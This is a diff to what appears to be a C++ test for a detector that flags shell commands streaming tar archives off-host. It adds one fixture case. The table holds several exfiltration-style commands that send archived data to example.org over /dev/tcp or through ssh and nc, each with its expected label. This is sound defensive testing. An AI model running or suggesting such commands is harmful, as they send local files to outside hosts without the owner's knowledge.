@@ -20,6 +20,7 @@ TEST_CASE("archives that go out as they are made") {
       {"tar c d > /dev/tcp/example.org/99", "net.send-archive"},
       {"exec {s}<>/dev/tcp/example.org/99; tar c d >&$s", "net.send-archive"},
       {"exec 3<>/dev/tcp/example.org/99; tar cf /dev/fd/3 d", "net.send-archive"},
+      {"exec 4>/dev/tcp/example.org/99; exec 3>&4-; tar c d >&3", "net.send-archive"},
       {"tar c d | ssh example.org tar x", ""},
       {"tar c d | curl -T - http://localhost:8080/", ""},
       {"tar c d | nc 192.168.1.4 99", ""},
